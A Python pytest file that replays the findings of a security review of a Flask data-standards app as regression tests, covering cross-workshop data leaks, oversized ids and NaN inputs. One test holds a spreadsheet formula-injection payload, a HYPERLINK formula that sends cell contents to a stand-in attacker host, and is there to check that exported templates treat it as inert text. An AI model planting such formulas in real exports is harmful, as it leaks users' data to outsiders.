"""Findings of the attack on the pages added late (issue 14): data requests, carry forward and
data standards, replayed as failing cases first.

- A data request's reply offered every network's private datasets (made from a post-it in
  another workshop) in its choice list, and linked the one named to this workshop's needs, so
  its title (the other workshop's post-it) was drawn on this workshop's pages.
- 20-digit ids in the gaps of a data request, the items carried forward, the needs a standard's
  field serves and the dataset a reply names overflowed SQLite (a 500).
- A signalling NaN as a field's smallest number failed converting to float (a 500)."""

import io
import re
from datetime import date

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from openpyxl import load_workbook

from insights import create_app
from insights.auth.models import User
from insights.datasets.models import Dataset, NeedDatasetLink
from insights.extensions import db
from insights.requests.services import draft_request, mark_sent
from insights.standards.models import StandardField
from insights.standards.outputs import csv_template, xlsx_template
from insights.standards.services import FieldInput, draft_from_workshop, save_field
from insights.submissions.services import Slot, current_for, process, start
from insights.submissions.validation import SubmissionRejected
from insights.workshops.models import Workshop
from tests.conftest import config_for
from tests.factories import csrf_token_from, log_in, make_statement, make_user, make_workshop
from tests.standards.builders import filled_csv, published_standard

HUGE = "99999999999999999999"


@pytest.fixture
def ours(users: dict[str, User]) -> Workshop:
    """Our network's workshop, its lead signed in later."""
    workshop = make_workshop(db.session, "Ours", users["facilitator"], users["lead"])
    db.session.commit()
    return workshop


@pytest.fixture
def theirs() -> Workshop:
    """Another network's workshop, with a private dataset made from one of its post-its."""
    workshop = make_workshop(db.session, "Theirs", make_user(db.session, "facilitator"))
    db.session.add(
        Dataset(
            title="THEIRS: the addresses of our clients",
            keywords=[],
            extra={},
            workshop_id=workshop.id,
            published=False,
        )
    )
    db.session.commit()
    return workshop


def private_dataset(workshop: Workshop) -> Dataset:
    """The dataset made in that workshop and not published."""
    found = db.session.scalar(sa.select(Dataset).where(Dataset.workshop_id == workshop.id))
    assert found is not None
    return found


def token(client: FlaskClient) -> str:
    """A CSRF token of the signed-in session."""
    return csrf_token_from(client.get("/").get_data(as_text=True))


def sent_request(workshop: Workshop, text: str = "We need volunteering data by borough") -> int:
    """A data request about one gap of the workshop, sent."""
    need = make_statement(db.session, workshop, text)
    drafted = draft_request(db.session, workshop, [need], None)
    mark_sent(db.session, drafted, date(2024, 1, 8), None)
    db.session.commit()
    return drafted.id


def test_a_reply_offers_and_links_only_datasets_the_workshop_may_name(
    client: FlaskClient, users: dict[str, User], ours: Workshop, theirs: Workshop
) -> None:
    request_id = sent_request(ours)
    log_in(client, users["lead"].email)
    url = f"/workshops/{ours.slug}/data-requests/{request_id}"
    page = client.get(url, query_string={"dataset_q": "addresses"}).get_data(as_text=True)
    assert "THEIRS" not in page
    hidden = private_dataset(theirs)
    client.post(
        f"{url}/reply",
        data={
            "csrf_token": token(client),
            "status": "answered",
            "answered_on": "2024-02-01",
            "dataset": str(hidden.id),
            "coverage": "serves",
        },
    )
    links = db.session.scalar(
        sa.select(sa.func.count())
        .select_from(NeedDatasetLink)
        .where(NeedDatasetLink.dataset_id == hidden.id)
    )
    assert links == 0
    assert "THEIRS" not in client.get(url).get_data(as_text=True)


@pytest.mark.parametrize("dataset", [HUGE, "-1", "١٢"])
def test_an_odd_dataset_id_in_a_reply_is_not_a_server_error(
    client: FlaskClient, users: dict[str, User], ours: Workshop, dataset: str
) -> None:
    request_id = sent_request(ours)
    log_in(client, users["lead"].email)
    response = client.post(
        f"/workshops/{ours.slug}/data-requests/{request_id}/reply",
        data={
            "csrf_token": token(client),
            "status": "answered",
            "answered_on": "2024-02-01",
            "dataset": dataset,
            "coverage": "serves",
        },
    )
    assert response.status_code < 500


def test_huge_gap_ids_in_a_new_or_edited_data_request_are_refused_not_crashed(
    client: FlaskClient, users: dict[str, User], ours: Workshop
) -> None:
    log_in(client, users["lead"].email)
    base = f"/workshops/{ours.slug}/data-requests"
    response = client.post(f"{base}/new", data={"csrf_token": token(client), "needs": [HUGE]})
    assert response.status_code < 500
    need = make_statement(db.session, ours, "We need charity income data")
    drafted = draft_request(db.session, ours, [need], None)
    db.session.commit()
    response = client.post(
        f"{base}/{drafted.id}/edit",
        data={
            "csrf_token": token(client),
            "addressee": "ONS",
            "subject": "Data",
            "body": "Please",
            "needs": [HUGE, "-4"],
            "version": str(drafted.version),
        },
    )
    assert response.status_code < 500


@pytest.mark.parametrize("field", ["statements", "next_steps"])
def test_huge_ids_carried_forward_are_refused_not_crashed(
    client: FlaskClient, users: dict[str, User], ours: Workshop, field: str
) -> None:
    later = make_workshop(db.session, "Later", users["facilitator"], users["lead"])
    db.session.commit()
    log_in(client, users["lead"].email)
    response = client.post(
        f"/workshops/{ours.slug}/carry-forward/",
        data={"csrf_token": token(client), field: [HUGE], "target": str(later.id), "mode": "copy"},
    )
    assert response.status_code < 500


def field_form(**values: object) -> dict[str, object]:
    """A new field's form, with the values given."""
    return {"name": "volunteers_count", "title": "Volunteers", "type": "integer", **values}


@pytest.mark.parametrize(
    "values",
    [{"needs": [HUGE, "-1"]}, {"minimum": "sNaN"}, {"minimum": "NaN"}, {"minimum": "-Infinity"}],
    ids=["huge-need", "snan", "nan", "infinity"],
)
def test_odd_values_in_a_standard_field_are_refused_not_crashed(
    client: FlaskClient, users: dict[str, User], ours: Workshop, values: dict[str, object]
) -> None:
    standard = draft_from_workshop(db.session, ours, users["lead"])
    db.session.commit()
    log_in(client, users["lead"].email)
    response = client.post(
        f"/workshops/{ours.slug}/standards/{standard.id}/v1/fields/new",
        data={"csrf_token": token(client), **field_form(**values)},
    )
    assert response.status_code < 500
    saved = db.session.scalar(
        sa.select(StandardField).where(StandardField.name == "volunteers_count")
    )
    if saved is not None and saved.minimum is not None:
        assert abs(saved.minimum) < float("inf") and saved.minimum == saved.minimum


def test_a_standard_field_serves_only_needs_of_its_own_workshop(
    client: FlaskClient, users: dict[str, User], ours: Workshop, theirs: Workshop
) -> None:
    standard = draft_from_workshop(db.session, ours, users["lead"])
    secret = make_statement(db.session, theirs, "THEIRS: a need of theirs")
    db.session.commit()
    log_in(client, users["lead"].email)
    url = f"/workshops/{ours.slug}/standards/{standard.id}/v1"
    client.post(
        f"{url}/fields/new",
        data={"csrf_token": token(client), **field_form(needs=[str(secret.id)])},
    )
    assert "THEIRS" not in client.get(url).get_data(as_text=True)
    saved = db.session.scalar(
        sa.select(StandardField).where(StandardField.name == "volunteers_count")
    )
    assert saved is not None and saved.needs == []


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_the_standard_templates_run_no_formula_from_a_need_or_a_field(
    users: dict[str, User], ours: Workshop
) -> None:
    need = make_statement(db.session, ours, FORMULA)
    standard = draft_from_workshop(db.session, ours, users["lead"])
    version = standard.versions[0]
    save_field(
        db.session,
        version,
        FieldInput(
            name="band",
            title=FORMULA,
            question=FORMULA,
            guidance="+1+1",
            allowed_values=[{"code": "@SUM(1)", "label": "-2+3"}],
            need_ids=[need.id],
        ),
        users["lead"],
    )
    db.session.commit()
    workbook = load_workbook(io.BytesIO(xlsx_template(version)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    assert texts, "the hostile text is in the workbook"
    assert all(cell.data_type == "s" for cell in texts)
    template = csv_template(version).decode("utf-8-sig")
    assert template.splitlines()[0].split(",")[-1] == "band"


def test_a_member_cannot_replace_another_organisations_submission_by_typing_its_name(
    client: FlaskClient, users: dict[str, User]
) -> None:
    """Only the workshop's leads, or the organisation that sent the first, may replace it: a
    member who merely types that organisation's name is refused."""
    lead, member = users["lead"], users["member"]
    workshop, standard, version = published_standard(db.session, lead, member)
    slot = Slot(version, "E09000012", 2024)
    first = start(
        db.session, slot, "Hackney CVS", lead, (filled_csv(version, "Hackney", 6), "first.csv")
    )
    assert process(db.session, first).state == "accepted"
    db.session.commit()
    log_in(client, member.email)
    response = client.post(
        f"/workshops/{workshop.slug}/standards/{standard.id}/submit",
        data={
            "csrf_token": token(client),
            "version": str(version.id),
            "organisation": "Hackney CVS",
            "borough": "E09000012",
            "year": "2024",
            "shape": "rows",
            "file": (io.BytesIO(filled_csv(version, "Hackney", 3, seed=2)), "mine.csv"),
        },
        content_type="multipart/form-data",
    )
    if response.status_code == 302 and "confirm" in response.headers["Location"]:
        client.post(
            response.headers["Location"], data={"csrf_token": token(client), "choice": "replace"}
        )
    db.session.expire_all()
    current = current_for(db.session, slot)
    assert current is not None and current.id == first.id


def test_publishing_a_draft_changed_since_the_page_was_opened_is_refused(
    client: FlaskClient, users: dict[str, User], ours: Workshop
) -> None:
    """The publish form sends the draft's version as the page showed it; a field added by
    someone else in between changes that version, so the draft is not published unseen."""
    standard = draft_from_workshop(db.session, ours, users["lead"])
    db.session.commit()
    log_in(client, users["lead"].email)
    url = f"/workshops/{ours.slug}/standards/{standard.id}/v1"
    seen = re.search(
        r'name="version" type="hidden" value="(\d+)"', client.get(url).get_data(as_text=True)
    )
    assert seen is not None
    version = standard.versions[0]
    save_field(
        db.session, version, FieldInput(name="added_meanwhile", title="Added"), users["facilitator"]
    )
    db.session.commit()
    client.post(f"{url}/publish", data={"csrf_token": token(client), "version": seen.group(1)})
    db.session.expire_all()
    assert not standard.versions[0].is_published


def test_control_characters_in_the_path_are_cleaned_before_a_view_sees_them(
    database_url: str,
) -> None:
    """PostgreSQL refuses NUL outright: /workshops/%00/… was a 500 there on every route."""
    app = create_app(config_for(database_url))

    @app.route("/_echo/<slug>")
    def echo(slug: str) -> str:
        return repr(slug)

    echo.allowed_roles = "public"  # type: ignore[attr-defined]
    assert app.test_client().get("/_echo/a%00b%1Fc").get_data(as_text=True) == "'abc'"


def test_a_number_too_large_for_the_pool_is_refused_not_stored_as_blank(
    users: dict[str, User],
) -> None:
    """A 400-digit count passed the schema and was stored as a blank: the submission said it
    was accepted while the figure was lost."""
    _, _, version = published_standard(db.session, users["lead"])
    numeric = next(f for f in version.fields if f.type == "integer")
    data = filled_csv(version, "Hackney", 3).decode()
    header, first, *rest = data.splitlines()
    names = header.split(",")
    cells = first.split(",")
    cells[names.index(numeric.name)] = "9" * 400
    upload = "\n".join([header, ",".join(cells), *rest]).encode()
    submission = start(
        db.session, Slot(version, "E09000012", 2024), "Hackney CVS", None, (upload, "big.csv")
    )
    with pytest.raises(SubmissionRejected) as refused:
        process(db.session, submission)
    assert any(p.column == numeric.name and p.row == 2 for p in refused.value.problems)
